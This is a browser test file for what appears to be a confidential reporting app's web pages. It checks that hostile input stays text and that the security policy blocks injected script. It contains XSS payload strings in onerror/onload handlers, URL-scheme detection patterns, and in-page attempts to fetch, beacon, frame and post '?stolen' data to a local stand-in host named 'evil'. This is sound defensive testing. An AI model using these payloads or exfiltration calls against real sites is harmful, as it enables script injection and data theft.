import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Locator, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { caseKeyWords, describePayload } from '../../crypto/index.ts'
import { launchChromium } from '../support/browsers.ts'
import { enterByKitAtConsole, go, type Seat, takeSeat } from '../support/console.ts'
import { endlessFile, hostileFiles, onThePage } from '../support/evidence/hostile-files.ts'
import { hostileTexts } from '../support/hostile-texts.ts'
import { description, foundOffice, state } from '../support/office.ts'
import { act, newReporter, sealReport } from '../support/reporters.ts'
import { type Server, startNode } from '../support/servers.ts'
import { enterCase, type Lived, liveThrough, reportInPage } from '../support/whole-journey.ts'
import { tags } from '../support/words.ts'

/** One line with all of it: a page that takes any part for more than text gives itself away. */
const everything = hostileTexts.join(' | ')
/** For fields with a limit: what is most likely to run. */
const brief = `"><img src=x onerror=window.hit=1 data-hit><svg/onload=window.hit=1>`

interface Watched {
  readonly complaints: string[]
  readonly left: string[]
}

/** Sees whatever a script that ran would do, and whatever the policy had to stop. */
async function watch(page: Page, { complaints, left }: Watched): Promise<void> {
  page.on('dialog', (dialog) => {
    complaints.push(`a dialog: ${dialog.message()}`)
    return dialog.dismiss()
  })
  page.on('pageerror', (error) => complaints.push(error.message))
  page.on('console', (message) => {
    if (/Content.Security|Trusted|Refused|violat/i.test(message.text())) complaints.push(message.text())
  })
  page.on('request', (request) => {
    const { hostname } = new URL(request.url())
    if (hostname !== 'localhost' && hostname !== '') left.push(request.url())
  })
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ violatedDirective, sample }) =>
      console.error(`violation of ${violatedDirective}: ${sample}`),
    )
  })
}

/** Nothing ran, nothing became an element, nothing was asked of another machine. */
async function expectOnlyText(page: Page): Promise<void> {
  const seen = await page.evaluate(() => ({
    hits: (window as unknown as { hit?: number }).hit ?? 0,
    elements: [...document.querySelectorAll('[data-hit], iframe, object, embed, base, meta[http-equiv=refresh]')].map(
      (element) => element.outerHTML,
    ),
    handlers: [...document.querySelectorAll('*')]
      .filter((element) => element.getAttributeNames().some((name) => name.startsWith('on')))
      .map((element) => element.outerHTML),
    addresses: [...document.querySelectorAll<HTMLElement>('[href], [src], [action]')]
      .flatMap((element) => ['href', 'src', 'action'].map((name) => element.getAttribute(name) ?? ''))
      .filter((address) => /^\s*(javascript|data|vbscript):|evil/i.test(address)),
  }))
  expect(seen).toEqual({ hits: 0, elements: [], handlers: [], addresses: [] })
}

/** Opens whatever is folded at a case. */
const unfold = (page: Page): Promise<void> =>
  page.locator('#opened details').evaluateAll((folded) => {
    for (const element of folded) element.setAttribute('open', '')
  })

/** A file that cannot be shown can be saved, and comes whole. */
async function expectSaved(item: Locator, name: string): Promise<void> {
  const [download] = await Promise.all([
    item.page().waitForEvent('download'),
    item.getByRole('button', { name: `Save ${name}` }).click(),
  ])
  expect(download.suggestedFilename()).toBe(name)
}

/** The first page of a damaged PDF is drawn; where the others would stand, the console says in its language what they lack. */
async function expectDamaged({ page, t }: Seat): Promise<void> {
  const item = page.locator('.evidence li').filter({ hasText: 'damaged.pdf' })
  await item.getByRole('button', { name: t('files.preview.open', { name: 'damaged.pdf' }) }).click()
  await page.locator('iframe.preview').scrollIntoViewIfNeeded()
  const pages = page.frameLocator('iframe.preview').locator('section')
  await pages.nth(0).locator('canvas').waitFor()
  for (const [place, says] of [
    [1, 'files.preview.page.empty'],
    [2, 'files.preview.page.unread'],
  ] as const)
    await pages.nth(place).locator(`p:lang(${t.language.tag})`).getByText(t(says), { exact: true }).waitFor()
  expect(await pages.nth(0).innerText()).toBe('')
  await item.getByRole('button', { name: t('files.preview.close') }).click()
}

async function expectOnlyTextInViews(seat: Seat): Promise<void> {
  for (const view of ['bar.inbox', 'bar.people', 'bar.keys'] as const) {
    await go(seat, seat.t(view))
    await seat.page.locator('main h1').waitFor({ state: 'attached' })
    await expectOnlyText(seat.page)
  }
}

describe('a case in which everybody writes script in every field', () => {
  let server: Server
  let browser: Browser
  let lived: Lived
  /** Where the console shows the case. */
  let place: string
  const seen: Watched = { complaints: [], left: [] }

  beforeAll(async () => {
    server = await startNode()
    browser = await launchChromium()
    lived = await liveThrough({
      ...{ server, browser },
      say: () => everything,
      chiefName: `Ines ${brief}`,
      watch: (page) => watch(page, seen),
    })
    place = new URL(lived.chief.page.url()).hash
  })
  afterAll(async () => {
    await browser?.close()
    await server?.stop()
  })

  test('shows it to the officer as it was written', async () => {
    const { page } = lived.chief
    const read = await page.locator('main').innerText()
    for (const text of hostileTexts.slice(0, 8)) expect(read).toContain(text)
    await expectOnlyText(page)
  })

  test('shows it to the reporter as it was written', async () => {
    const { reporter } = lived
    await unfold(reporter)
    const read = await reporter.locator('#opened').innerText()
    for (const text of hostileTexts.slice(0, 8)) expect(read).toContain(text)
    expect(read).toContain(`Ines ${brief}`)
    await expectOnlyText(reporter)
  })

  test('shows the reporter hostile files, what stands in them and what they are called as words', async () => {
    const { reporter } = lived
    const files = hostileFiles()
    await reporter.locator('[data-open=write]').click()
    await reporter.setInputFiles('#reply-files-input', [...files])
    const rows = reporter.locator('#reply-files > ul > li')
    await expect.poll(() => rows.count()).toBe(files.length)
    await expect.poll(() => reporter.getByText('Looking for traces').count()).toBe(0)
    for (const box of await rows.locator('input[type=checkbox]').all()) await box.check()
    // The author that was found in the sound, and taken out of it.
    expect(await rows.filter({ hasText: 'sound.mp3' }).innerText()).toContain('<svg/onload=window.hit=1 data-hit>')
    await expectOnlyText(reporter)
    await reporter.locator('#write-text').fill('Please look at these.')
    await reporter.locator('#write [type=submit]').click()
    await reporter.getByRole('button', { name: 'Save list.txt' }).waitFor()
    await expectOnlyText(reporter)
  })

  test('shows them to the officer as what they are or as words, in a frame that has nothing', async () => {
    const { page } = lived.chief
    await go(lived.chief, 'People')
    await page.goBack()
    const items = page.locator('.evidence li')
    await items.first().waitFor()
    expect(await items.count()).toBe(hostileFiles().length)
    for (const item of await items.all()) {
      await item.getByRole('button', { name: /^View/ }).click()
      await item.getByRole('button', { name: 'Close' }).waitFor()
      const frame = page.frameLocator('iframe.preview')
      const notShown = item.getByText(
        /Files of this kind are not shown here|too large to be shown here|cannot show this file/,
      )
      await Promise.any([
        frame.locator('pre, img, audio, canvas').first().waitFor({ state: 'attached' }),
        notShown.waitFor(),
      ])
      if ((await notShown.count()) === 0) {
        const inside = await frame.locator('body').evaluate((body) => ({
          ...{ origin: window.origin, hit: (window as unknown as { hit?: number }).hit ?? 0 },
          made: body.querySelectorAll('[data-hit], script[src], svg, iframe, object, base, a, form, input').length,
        }))
        expect(inside).toEqual({ origin: 'null', hit: 0, made: 0 })
      }
      await item.getByRole('button', { name: 'Close' }).click()
      await expectOnlyText(page)
    }
  })

  test('draws a PDF for the officer, with its words as words, and none of its scripts, links and forms', async () => {
    const { page } = lived.chief
    const item = page.locator('.evidence li').filter({ hasText: 'form.pdf' })
    await item.getByRole('button', { name: 'View form.pdf' }).click()
    await item.getByText('A PDF of one page').waitFor()
    // What is out of sight is not drawn.
    await page.locator('iframe.preview').scrollIntoViewIfNeeded()
    const frame = page.frameLocator('iframe.preview')
    const dark = () =>
      frame.locator('canvas').evaluate((canvas: HTMLCanvasElement) => {
        const { data } = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height) ?? { data: [] }
        return [...data].filter((value, place) => place % 4 === 0 && value < 64).length / (data.length / 4)
      })
    // Of the page of 400 by 200 units, a rectangle of 200 by 60 is black, and the letters are.
    await expect.poll(dark).toBeGreaterThan(0.15)
    expect(await dark()).toBeLessThan(0.3)
    expect(await frame.locator('section p').textContent()).toContain(onThePage)
    await item.getByRole('button', { name: 'Close' }).click()
    await expectOnlyText(page)
  })

  test('says of a page that cannot be read, where it would stand', async () => {
    await expectDamaged(lived.chief)
  })

  test('says of a PDF locked by a password that it cannot be shown, and lets the officer save it', async () => {
    const { page } = lived.chief
    const item = page.locator('.evidence li').filter({ hasText: 'locked.pdf' })
    await item.getByRole('button', { name: 'View locked.pdf' }).click()
    await item.getByText('cannot show this file. It may be damaged, or locked by a password').waitFor()
    await expectSaved(item, 'locked.pdf')
    await item.getByRole('button', { name: 'Close' }).click()
  })

  test('gives up a PDF that nobody can read to its end, and lets the officer save it', async () => {
    const { reporter } = lived
    await reporter.locator('[data-open=write]').click()
    await reporter.setInputFiles('#reply-files-input', endlessFile())
    await reporter.locator('#reply-files input[type=checkbox]').check()
    await reporter.locator('#write-text').fill('And at this.')
    await reporter.locator('#write [type=submit]').click()
    await reporter.getByRole('button', { name: 'Save endless.pdf' }).waitFor()

    const { page } = await takeSeat(browser)
    await page.clock.install()
    // The thread is there before the file is, with which the time begins.
    await page.addInitScript(() =>
      addEventListener('message', ({ data }) => {
        if (data.kind === 'pdf') document.documentElement.dataset.given = ''
      }),
    )
    await enterByKitAtConsole({ ...lived.chief, page }, server, lived.kit)
    await page.evaluate((hash) => location.assign(hash), place)
    const item = page.locator('.evidence li').filter({ hasText: 'endless.pdf' })
    const reading = page.waitForEvent('worker')
    await item.getByRole('button', { name: 'View endless.pdf' }).click()
    const ended = (await reading).waitForEvent('close')
    await page.frameLocator('iframe.preview').locator('html[data-given]').waitFor({ state: 'attached' })
    await page.clock.fastForward('00:29')
    expect(await item.getByText('cannot show this file').isVisible()).toBe(false)
    await page.clock.fastForward('00:02')
    await item.getByText('cannot show this file').waitFor()
    await ended
    await expectSaved(item, 'endless.pdf')
    await page.context().close()
  })

  test('shows it in the inbox, among the people and on the keys page', async () => {
    await expectOnlyTextInViews(lived.chief)
  })

  test.each(tags.filter((tag) => tag !== 'en'))(
    'shows it as it was written to whoever reads in another language (%s)',
    async (language) => {
      const reporter = await (await browser.newContext()).newPage()
      await watch(reporter, seen)
      await enterCase(reporter, server.origin, lived.words, language)
      await unfold(reporter)
      const read = await reporter.locator('#opened').innerText()
      for (const text of hostileTexts.slice(0, 8)) expect(read).toContain(text)
      await expectOnlyText(reporter)
      await reportInPage(reporter, server.origin, () => brief, language)
      await expectOnlyText(reporter)
      await reporter.context().close()

      const chief = await takeSeat(browser, { language })
      await watch(chief.page, seen)
      await enterByKitAtConsole(chief, server, lived.kit)
      await expectOnlyTextInViews(chief)
      await chief.page.evaluate((hash) => location.assign(hash), place)
      await chief.page.locator('.verdict').waitFor()
      const opened = await chief.page.locator('main').innerText()
      for (const text of hostileTexts.slice(0, 8)) expect(opened).toContain(text)
      await expectOnlyText(chief.page)
      await expectDamaged(chief)
      expect(chief.complaints).toEqual([])
      await chief.page.context().close()
    },
  )

  test('shows what a reporter sealed by other means, with a summary of their own making', async () => {
    const body = {
      type: 'report',
      kind: 'report',
      mode: 'open',
      language: brief,
      story: everything,
      title: brief,
      category: brief,
      capacity: brief,
    }
    const small = '<svg/onload=window.hit=1 data-hit>'
    const owed = { what: small, due: small }
    const summary = {
      title: `Hostile ${brief}`,
      kind: 'report',
      state: 'received',
      received: brief,
      owed,
      last: 'reporter',
    }
    const identity = { type: 'identity', name: everything }
    for (const made of [summary, { ...summary, kind: brief, state: brief }, brief]) {
      const reporter = await newReporter(server.origin)
      await reporter.client.call('submitReport', {
        body: await sealReport(reporter, { body, identity, summary: made }),
      })
    }
    const { page } = lived.chief
    await go(lived.chief, 'People')
    await go(lived.chief, 'Inbox')
    const line = page.getByRole('row', { name: `Hostile ${brief}` })
    await line.waitFor()
    await expectOnlyText(page)
    await line.getByRole('link').first().click()
    await page.locator('.said').first().waitFor()
    expect(await page.locator('main').innerText()).toContain(hostileTexts[2])
    await expectOnlyText(page)
  })

  test('and a page has nothing to complain of, and asks no other machine for anything', () => {
    expect(seen.complaints).toEqual([])
    expect(seen.left).toEqual([])
    expect(lived.chief.complaints).toEqual([])
  })
})

describe('somebody who seals by other means than our pages', () => {
  let server: Server
  let browser: Browser
  const seen: Watched = { complaints: [], left: [] }
  let page: Page

  beforeAll(async () => {
    server = await startNode()
    browser = await launchChromium()
    page = await (await browser.newContext()).newPage()
    await watch(page, seen)
  })
  afterAll(async () => {
    await browser?.close()
    await server?.stop()
  })

  test('an office that describes itself in script is shown as text, and so are its people and what they write', async () => {
    const office = await foundOffice(server)
    const texts = { en: everything.slice(0, 1_900) }
    const hostile = { ...description, name: texts, contacts: texts, emergency: texts }
    await state(office, 'describe', describePayload(hostile))
    const { memberId } = office.chief
    await state(office, 'change', { memberId, role: 'chief', clearance: 1, label: brief })

    const reporter = await newReporter(server.origin)
    const strange = Object.fromEntries(hostileTexts.slice(0, 12).map((text, place) => [`${brief}${place}`, text]))
    const body = {
      type: 'report',
      kind: 'report',
      mode: 'open',
      language: brief,
      story: everything,
      title: brief,
      category: brief,
      ...strange,
    }
    await reporter.client.call('submitReport', {
      body: await sealReport(reporter, { body, identity: { type: 'identity', name: everything } }),
    })
    const say = (text: Record<string, string>) =>
      act(office.chief, reporter.address, { act: 'say', lane: 'shared', body: text })
    await say({ type: 'acknowledgement', text: everything, language: brief })
    await say({ type: 'state', to: 'waiting', text: everything })
    await say({ type: brief, text: everything })
    await say({ type: 'state', to: brief, text: brief })
    await act(office.chief, reporter.address, {
      act: 'open-identity',
      body: { type: 'identity-opened', reason: everything },
    })

    for (const path of ['', 'report/', 'case/', 'help/']) {
      await page.goto(`${server.origin}/en/${path}`)
      await page.locator('#fingerprint').waitFor()
      await expectOnlyText(page)
    }
    await enterCase(page, server.origin, caseKeyWords(reporter.caseKey, 'english'))
    await unfold(page)
    expect(await page.locator('#opened').innerText()).toContain(hostileTexts[2])
    await expectOnlyText(page)
    await reportInPage(page, server.origin, () => brief)
    await expectOnlyText(page)
    expect(seen).toEqual({ complaints: [], left: [] })
  })
})

describe('a script that got in all the same', () => {
  let server: Server
  let browser: Browser
  /** Another machine, which counts who asks it for anything. */
  const elsewhere = createServer((_request, response) => response.end(String(++asked)))
  let asked = 0
  let evil = ''
  beforeAll(async () => {
    server = await startNode()
    browser = await launchChromium()
    await new Promise<void>((listening) => elsewhere.listen(0, 'localhost', listening))
    evil = `http://localhost:${(elsewhere.address() as AddressInfo).port}/`
  })
  afterAll(async () => {
    await browser?.close()
    await server?.stop()
    elsewhere.close()
  })

  const addresses = tags.flatMap((tag) => ['', 'report/', 'case/', 'office/'].map((path) => `/${tag}/${path}`))

  test.concurrent.each(addresses)(
    'finds on %s no way to make markup, to load anything or to send anything out',
    async (address) => {
      const page = await (await browser.newContext()).newPage()
      await page.goto(server.origin + address)
      const outcome = await page.evaluate(async (other) => {
        const refused = async (attempt: () => unknown): Promise<string> => {
          // In a task of its own: the debugger, which runs this, may evaluate what a page may not.
          await new Promise((turn) => setTimeout(turn))
          try {
            await attempt()
            return 'allowed'
          } catch (error) {
            return (error as Error).name
          }
        }
        const div = document.body.appendChild(document.createElement('div'))
        const ran = async (element: HTMLElement) => {
          document.body.append(element)
          await new Promise((done) => setTimeout(done, 200))
          return (window as unknown as { hit?: number }).hit ?? 0
        }
        const inline = document.createElement('script')
        return {
          markup: await refused(() => (div.innerHTML = '<b>x</b>')),
          document: await refused(() => document.write('<b>x</b>')),
          address: await refused(() => (document.createElement('script').src = `${other}x.js`)),
          text: await refused(() => (inline.text = 'window.hit = 1')),
          eval: await refused(() => window['eval' as 'parseInt']('window.hit = 1')),
          function: await refused(() => new Function('window.hit = 1')()),
          worker: await refused(() => new Worker('/assets/x.js')),
          policy: await refused(() =>
            (
              window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
            ).trustedTypes.createPolicy('mine', {}),
          ),
          fetch: await refused(() => fetch(`${other}?stolen`)),
          beacon: navigator.sendBeacon(`${other}?stolen`) ? await ran(document.createElement('b')) : 0,
          image: await ran(Object.assign(document.createElement('img'), { src: `${other}x.png` })),
          frame: await ran(Object.assign(document.createElement('iframe'), { src: other })),
          form: await refused(() => {
            const form = Object.assign(document.createElement('form'), {
              action: other,
              method: 'post',
            })
            document.body.append(form)
            form.submit()
          }),
        }
      }, evil)
      expect(outcome).toEqual({
        ...{ markup: 'TypeError', document: 'TypeError', address: 'TypeError', text: 'TypeError', eval: 'EvalError' },
        ...{ function: 'EvalError', worker: 'TypeError', policy: 'TypeError', fetch: 'TypeError' },
        ...{ beacon: 0, image: 0, frame: 0, form: 'allowed' },
      })
      await page.waitForTimeout(300)
      expect(page.url()).toBe(server.origin + address)
      expect(asked).toBe(0)
      await page.close()
    },
  )
})
